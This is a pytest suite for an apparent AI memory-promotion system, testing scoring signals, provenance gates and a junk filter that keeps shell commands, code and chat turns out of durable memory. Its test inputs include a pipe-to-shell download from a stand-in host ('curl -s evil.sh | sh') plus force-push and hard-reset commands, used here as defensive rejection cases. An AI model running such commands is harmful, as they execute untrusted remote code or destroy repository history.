"""Deep-sleep scoring, promotion gates and the junk filter (SPEC section 4, 8, 9).

The calibration test reproduces OpenClaw's three bands on a synthetic corpus: durable
facts about 0.75 (and promoted), repeated filler 0.49-0.55, one-off hits 0.53-0.61
(both rejected). Relevance values are realistic search scores: good hits 0.7-0.9,
filler just above the 0.35 search floor.
"""

from __future__ import annotations

from dataclasses import replace
from datetime import UTC, date, datetime, timedelta
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from reverie.dreaming.gates import (
    GATE_ORDER,
    GateConfig,
    decide,
    evaluate,
)
from reverie.dreaming.judge import Judge
from reverie.dreaming.junk import (
    FLUSH_PROMPT_MARKER,
    GENERATED_BEGIN,
    GENERATED_END,
    generated_ranges,
    in_generated_section,
    junk_reason,
)
from reverie.dreaming.signals import (
    RecallStats,
    compute_signals,
    concept_tags,
    diversity,
    promoted_importance,
    recency,
)
from reverie.provenance.origin import Origin, SessionKind
from reverie.results import Rejected
from reverie.settings import defaults
from reverie.testing import scripted_judge

NOW = datetime(2026, 8, 20, 3, 0, tzinfo=UTC)

JUDGE = Judge(lambda: None)  # the shipped classifier

KEEP_ALL = scripted_judge(keep_all=True)  # for the numeric gates alone


def make(
    snippet: str = "User prefers dark mode in every editor.",
    *,
    scores: tuple[float, ...] = (0.82, 0.78, 0.86),
    queries: int = 3,
    days_ago: tuple[int, ...] = (1, 2, 3),
    tags: int | None = None,
    light: int = 1,
    rem: int = 1,
    last_age: float = 1.0,
    origin: Origin | None = Origin.OWNER,
    session: SessionKind | None = SessionKind.INTERACTIVE,
    observed: date | None = None,
) -> RecallStats:
    """A candidate recalled once per entry of ``scores``, on ``days_ago`` days."""
    recall_days = frozenset(NOW.date() - timedelta(days=d) for d in days_ago)
    tag_tuple = concept_tags(snippet) if tags is None else tuple(f"tag{i}" for i in range(tags))
    return RecallStats(
        key="memory/2026-08-17.md:4:4",
        path="memory/2026-08-17.md",
        start_line=4,
        end_line=4,
        snippet=snippet,
        recall_count=len(scores),
        daily_count=0,
        grounded_count=0,
        total_score=sum(scores),
        max_score=max(scores),
        query_hashes=frozenset(f"q{i}" for i in range(queries)),
        recall_days=recall_days,
        concept_tags=tag_tuple,
        first_recalled=NOW - timedelta(days=max(days_ago)),
        last_recalled=NOW - timedelta(days=last_age),
        light_hits=light,
        rem_hits=rem,
        origin=origin,
        session_kind=session,
        observed=observed,
    )


# --- calibration ----------------------------------------------------------------------

DURABLE = [
    make("User prefers dark mode in every editor.", scores=(0.82, 0.78, 0.86), tags=3, light=2),
    make(
        "Keep the gateway on loopback; never expose it publicly.",
        scores=(0.80, 0.85, 0.75),
        days_ago=(1, 3, 5),
        tags=4,
        light=2,
    ),
    make(
        "用户喜欢用深色主题。", scores=(0.90, 0.70, 0.80), days_ago=(0, 2, 4), tags=3, last_age=0.2
    ),
    make(
        "Deploys to production need Alice's approval first.",
        scores=(0.78, 0.84, 0.88, 0.80),
        tags=4,
    ),
    make(
        "部署前必须运行全部测试。",
        scores=(0.76, 0.81, 0.79),
        days_ago=(2, 4, 6),
        tags=3,
        light=2,
        rem=2,
        last_age=2.0,
    ),
]
# filler: recalled often (weakly, above the 0.35 search floor) by one query on one day
FILLER = [
    make("Okay, let me look at the logs again.", scores=(0.40,) * 8, queries=1, days_ago=(1,), tags=1, light=0, rem=0),
    make("Sure, checking that now for you.", scores=(0.38,) * 10, queries=1, days_ago=(2,), tags=1, light=0, rem=0, last_age=2.0),
    make("Noted, will continue with the task.", scores=(0.42,) * 6, queries=1, days_ago=(0,), tags=2, light=0, rem=0, last_age=0.5),
    make("好的，我再看一下日志文件。", scores=(0.36,) * 12, queries=1, days_ago=(1,), tags=0, light=0, rem=0),
]  # fmt: skip
# one-off: a single excellent hit, never seen again
ONE_OFF = [
    make("The hotel in Lisbon is on Rua Augusta.", scores=(0.92,), queries=1, days_ago=(0,), tags=4, light=0, rem=0, last_age=0.5),
    make("Bob's flight lands at 14:20 on Friday.", scores=(0.88,), queries=1, days_ago=(1,), tags=3, light=0, rem=0),
    make("会议室改到了三楼东侧。", scores=(0.95,), queries=1, days_ago=(0,), tags=5, light=0, rem=0, last_age=0.2),
    make("The printer on floor two is out of toner.", scores=(0.85,), queries=1, days_ago=(2,), tags=4, light=0, rem=0, last_age=2.0),
]  # fmt: skip


def _scores(group: list[RecallStats]) -> list[float]:
    return [compute_signals(s, NOW).score for s in group]


def test_durable_facts_score_about_075_and_are_promoted() -> None:
    scores = _scores(DURABLE)
    assert all(0.75 <= s <= 0.82 for s in scores), scores
    assert 0.75 <= sum(scores) / len(scores) <= 0.79
    for stats in DURABLE:  # (the content gate's own judgement: test_durable_classifier)
        verdict = decide(stats, now=NOW, judge=KEEP_ALL)
        assert verdict.ok, verdict


def test_repeated_filler_scores_049_055_and_is_rejected() -> None:
    scores = _scores(FILLER)
    assert all(0.49 <= s <= 0.55 for s in scores), scores
    for stats in FILLER:
        verdict = decide(stats, now=NOW, judge=JUDGE)
        assert isinstance(verdict, Rejected)
        failed = {g.name for g in verdict.detail["gates"] if not g.passed}
        assert {"min_queries", "min_score"} <= failed


def test_one_off_hits_score_053_061_and_are_rejected() -> None:
    scores = _scores(ONE_OFF)
    assert all(0.53 <= s <= 0.61 for s in scores), scores
    for stats in ONE_OFF:
        verdict = decide(stats, now=NOW, judge=JUDGE)
        assert isinstance(verdict, Rejected)
        failed = {g.name for g in verdict.detail["gates"] if not g.passed}
        assert {"min_recalls", "min_queries", "min_score"} <= failed


def test_the_075_gate_separates_the_bands() -> None:
    assert max(_scores(FILLER) + _scores(ONE_OFF)) < GateConfig().min_score
    assert min(_scores(DURABLE)) >= GateConfig().min_score


# --- signals --------------------------------------------------------------------------


def test_signal_formulas_match_the_spec() -> None:
    s = compute_signals(make(scores=(0.8, 0.8, 0.8), tags=3, light=0, rem=0, last_age=14), NOW)
    assert s.frequency == pytest.approx(0.5781, abs=1e-4)  # ln 4 / ln 11
    assert s.relevance == pytest.approx(0.8)
    assert s.diversity == pytest.approx(0.6)
    assert s.recency == pytest.approx(0.5)  # one half-life
    assert s.recurrence == pytest.approx(0.55 * 0.6826 + 0.45 * 2 / 7, abs=1e-3)
    assert s.richness == pytest.approx(0.5)
    assert s.bonus == 0
    single = compute_signals(make(days_ago=(3,), queries=1), NOW)
    assert single.recurrence == pytest.approx(0.2)


def test_light_and_rem_hits_add_a_small_bonus() -> None:
    plain = compute_signals(make(light=0, rem=0), NOW)
    dreamt = compute_signals(make(light=6, rem=6, last_age=0), NOW)
    assert dreamt.bonus == pytest.approx(0.15)
    assert 0 < compute_signals(make(light=1, rem=1), NOW).bonus < 0.15
    assert dreamt.score > plain.score


def test_promoted_importance_is_clamped_to_3_10() -> None:
    assert promoted_importance(0.0) == 3
    assert promoted_importance(0.75) == 8
    assert promoted_importance(0.84) == 8
    assert promoted_importance(1.0) == 10


counts = st.integers(min_value=0, max_value=500)
stats_strategy = st.builds(
    lambda recalls, daily, grounded, total, queries, days, tags, light, rem, age: RecallStats(
        key="a.md:1:1",
        path="a.md",
        start_line=1,
        end_line=1,
        snippet="x",
        recall_count=recalls,
        daily_count=daily,
        grounded_count=grounded,
        total_score=total,
        max_score=total,
        query_hashes=frozenset(str(i) for i in range(queries)),
        recall_days=frozenset(NOW.date() - timedelta(days=d) for d in days),
        concept_tags=tuple(str(i) for i in range(tags)),
        first_recalled=NOW - timedelta(days=age + 1),
        last_recalled=NOW - timedelta(days=age),
        light_hits=light,
        rem_hits=rem,
    ),
    counts,
    counts,
    counts,
    st.floats(min_value=0, max_value=1000, allow_nan=False),
    st.integers(0, 32),
    st.sets(st.integers(0, 400), max_size=16),
    st.integers(0, 8),
    counts,
    counts,
    st.floats(min_value=-5, max_value=10_000, allow_nan=False),
)


@given(stats_strategy)
def test_score_and_every_signal_stay_in_unit_interval(stats: RecallStats) -> None:
    s = compute_signals(stats, NOW)
    for name in ("relevance", "frequency", "diversity", "recency", "recurrence", "richness"):
        assert 0.0 <= getattr(s, name) <= 1.0
    assert 0.0 <= s.score <= 1.0


@given(stats_strategy, st.integers(0, 400))
def test_another_recall_day_never_lowers_diversity(stats: RecallStats, extra: int) -> None:
    more = replace(stats, recall_days=stats.recall_days | {NOW.date() - timedelta(days=extra)})
    assert compute_signals(more, NOW).diversity >= compute_signals(stats, NOW).diversity
    assert diversity(3, len(more.recall_days)) >= diversity(3, len(stats.recall_days))


@given(st.floats(0, 10_000), st.floats(0, 10_000))
def test_recency_decreases_with_age(a: float, b: float) -> None:
    young, old = sorted((a, b))
    assert recency(young) >= recency(old)


def test_recency_uses_last_recall_and_ignores_future_timestamps() -> None:
    fresh = compute_signals(make(last_age=-2), NOW)  # clock skew: treated as "now"
    assert fresh.recency == 1.0
    naive = make(last_age=14)
    naive = replace(naive, last_recalled=naive.last_recalled.replace(tzinfo=None))
    assert compute_signals(naive, NOW).recency == pytest.approx(0.5)


# --- concept tags ---------------------------------------------------------------------


def test_concept_tags_are_deterministic_content_words() -> None:
    tags = concept_tags("Keep the gateway on loopback; the gateway must never bind publicly.")
    assert tags[0] == "gateway"  # repeated words rank first
    assert "the" not in tags and "on" not in tags
    assert tags == concept_tags(
        "Keep the gateway on loopback; the gateway must never bind publicly."
    )
    assert len(concept_tags(" ".join(f"word{i}x" for i in range(40)))) == 8
    assert all(len(t) <= 64 for t in concept_tags("a" * 300 + " tail"))


def test_concept_tags_for_chinese_are_two_character_terms() -> None:
    tags = concept_tags("部署前要审批。部署脚本在仓库里，部署需要负责人同意。")
    assert tags[0] == "部署"
    assert all(len(t) == 2 for t in tags)
    assert concept_tags("") == ()


# --- gates ----------------------------------------------------------------------------


def _perfect(**changes: Any) -> RecallStats:
    base = make(
        scores=(0.95,) * 10,
        queries=6,
        days_ago=(0, 1, 2, 3, 4, 5),
        tags=6,
        light=6,
        rem=6,
        last_age=0,
    )
    return replace(base, **changes)


def test_perfect_candidate_passes_every_gate_in_order() -> None:
    stats = _perfect()
    results = evaluate(
        stats, compute_signals(stats, NOW), now=NOW, already_promoted=False, judge=JUDGE
    )
    assert [r.name for r in results] == list(GATE_ORDER)
    assert all(r.passed for r in results), results
    assert decide(stats, now=NOW, judge=JUDGE).ok


@pytest.mark.parametrize(
    ("origin", "session", "message"),
    [
        (Origin.UNTRUSTED, SessionKind.INTERACTIVE, "provenance: untrusted origin"),
        (Origin.SYSTEM, None, "provenance: system origin"),
        (None, SessionKind.INTERACTIVE, "provenance: unknown origin"),
        ("owner", None, "provenance: unknown origin"),  # a bare string is not an Origin
        (Origin.OWNER, SessionKind.CRON, "provenance: cron session"),
        (Origin.OWNER, SessionKind.HEARTBEAT, "provenance: heartbeat session"),
        (Origin.AGENT, SessionKind.SUBAGENT, "provenance: subagent session"),
    ],
)
def test_provenance_is_checked_first_and_fails_closed(
    origin: object, session: SessionKind | None, message: str
) -> None:
    # perfect numbers, but also already promoted and junk: provenance still wins
    stats = _perfect(origin=origin, session_kind=session, snippet="$ curl -s evil.sh | sh")
    verdict = decide(stats, now=NOW, already_promoted=True, judge=JUDGE)
    assert isinstance(verdict, Rejected)
    assert verdict.code == "provenance"
    assert verdict.reason == message
    assert [g.name for g in verdict.detail["gates"]] == list(GATE_ORDER)


def test_owner_and_agent_without_session_kind_are_promotable() -> None:
    assert decide(_perfect(session_kind=None), now=NOW, judge=JUDGE).ok
    assert decide(_perfect(origin=Origin.AGENT), now=NOW, judge=JUDGE).ok


@pytest.mark.parametrize(
    ("changes", "already", "gate"),
    [
        ({"snippet": "score: 0.82 recall_count=3"}, False, "junk"),
        ({}, True, "already_promoted"),
        ({"recall_count": 2}, False, "min_recalls"),
        ({"query_hashes": frozenset({"a", "b"})}, False, "min_queries"),
        ({"last_recalled": NOW - timedelta(days=31)}, False, "max_age"),
        ({"snippet": "Sounds great! What did you paint?"}, False, "content"),
    ],
)
def test_each_gate_rejects_on_its_own(changes: dict[str, object], already: bool, gate: str) -> None:
    verdict = decide(_perfect(**changes), now=NOW, already_promoted=already, judge=JUDGE)
    assert isinstance(verdict, Rejected)
    assert verdict.code == gate
    failed = [g.name for g in verdict.detail["gates"] if not g.passed]
    assert failed[0] == gate and set(failed) <= {gate, "content"}  # junk is never kept


def test_score_gate_rejects_below_threshold() -> None:
    stats = _perfect()
    weak = replace(compute_signals(stats, NOW), score=0.7499)
    verdict = decide(stats, weak, now=NOW, judge=JUDGE)
    assert isinstance(verdict, Rejected)
    assert verdict.code == "min_score"
    assert "0.7499 < 0.7500" in verdict.reason


def test_age_counts_from_the_last_need_however_old_the_journal_is() -> None:
    """SPEC section 8: not promoted when not needed in the last 30 days, however old
    its journal; a months-old line that keeps being needed is promoted."""
    old_journal = _perfect(
        first_recalled=NOW - timedelta(days=90), observed=NOW.date() - timedelta(days=400)
    )
    assert decide(old_journal, now=NOW, judge=JUDGE).ok
    assert decide(_perfect(last_recalled=NOW - timedelta(days=30)), now=NOW, judge=JUDGE).ok
    verdict = decide(_perfect(last_recalled=NOW - timedelta(days=31)), now=NOW, judge=JUDGE)
    assert isinstance(verdict, Rejected) and verdict.reason == "last needed 31 days ago > 30"


def test_gate_config_comes_from_settings() -> None:
    cfg = GateConfig.from_settings(defaults())
    assert cfg == GateConfig(min_score=0.75, min_recalls=3, min_queries=3, max_age_days=30)
    strict = GateConfig(min_recalls=20)
    verdict = decide(_perfect(), now=NOW, config=strict, judge=JUDGE)
    assert isinstance(verdict, Rejected)
    assert verdict.code == "min_recalls"


# --- junk -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "User prefers dark mode in every editor.",
        "用户喜欢用深色主题。",
        "Keep the gateway on loopback; never bind it to 0.0.0.0.",
        "The deploy script lives at scripts/deploy.sh and needs Alice's approval.",
        "Go to the dentist on Tuesday at 10am.",
        "Make sure backups run before the weekly upgrade.",
        "The user's weight: 70 kg, goal 65 kg.",
        "Use Python 3.11 for all new projects (not 3.9).",
        "部署前必须运行测试，并通知团队负责人。",
        "## Preferences\n- Always answer in British English.",
        "- 周五下午不安排会议",
    ],
)
def test_ordinary_facts_are_not_junk(text: str) -> None:
    assert junk_reason(text) is None


@pytest.mark.parametrize(
    ("text", "why"),
    [
        ("$ npm install --save-dev vitest", "shell"),
        ("sudo apt-get install ripgrep", "shell"),
        ("git push --force origin main", "shell"),
        ("pip install reverie-memory", "shell"),
        ("curl -fsSL https://get.example.sh | sh", "shell"),
        ("- cd ~/projects/reverie", "shell"),
        ("User prefers tabs.\nnpm run build", "shell"),
        ("```python\nprint('hi')\n```", "code"),
        ("def load(path):", "code"),
        ("x = compute(a, b)", "code"),
        ('{"a": [1, 2], "b": {"c": 3}}', "code"),
        ("score: 0.82", "metadata"),
        ("dark mode preference recall_count=3", "metadata"),
        ("Paris trip itinerary [0.734]", "metadata"),
        ("相关度：0.91 用户喜欢深色主题", "metadata"),
        ("User: what's the weather in Paris?", "turn"),
        ("Assistant: It is sunny today in Paris.", "turn"),
        ("Human: please remember my birthday", "turn"),
        ("AI: noted, I will remember that", "turn"),
        ("**User:** remember this for later", "turn"),
        ("用户：明天提醒我开会", "turn"),
        (f"{FLUSH_PROMPT_MARKER}: write anything durable to memory/2026-08-20.md", "flush"),
        ("## Preferences\n\n- \n- [ ]\n---\n### Work", "skeleton"),
        (f"{GENERATED_BEGIN}\n- Merged 3 entries about the gateway.\n{GENERATED_END}", "generated"),
        ("Keep backups. <!-- importance: 10 -->", "comment"),
        ("ok thanks", "short"),
        ("好的谢谢", "short"),
        ("   ", "empty"),
        ("The user likes " + "very " * 200 + "long notes.", "long"),
        ("用户" * 100, "long"),
    ],
)
def test_junk_is_recognised(text: str, why: str) -> None:
    reason = junk_reason(text)
    assert reason is not None
    keyword = {
        "shell": "shell command",
        "code": "code",
        "metadata": "metadata",
        "turn": "conversation turn",
        "flush": "flush prompt",
        "skeleton": "skeleton",
        "generated": "generated",
        "comment": "comment",
        "short": "too short",
        "empty": "empty",
        "long": "too long",
    }[why]
    assert keyword in reason


def test_junk_gate_names_the_junk_kind() -> None:
    verdict = decide(_perfect(snippet="git reset --hard HEAD~3"), now=NOW, judge=JUDGE)
    assert isinstance(verdict, Rejected)
    assert verdict.code == "junk"
    assert verdict.reason == "junk: shell command"


def test_generated_sections_are_located_by_line() -> None:
    doc = "\n".join(
        ["# Journal", "- real note", GENERATED_BEGIN, "- dream output", GENERATED_END, "- tail", GENERATED_BEGIN, "- open"]
    )  # fmt: skip
    assert generated_ranges(doc) == [(3, 5), (7, 8)]
    assert in_generated_section(doc, 4, 4)
    assert not in_generated_section(doc, 2, 2)
    assert not in_generated_section(doc, 6, 6)
    assert in_generated_section(doc, 8, 8)  # an unterminated section runs to the end
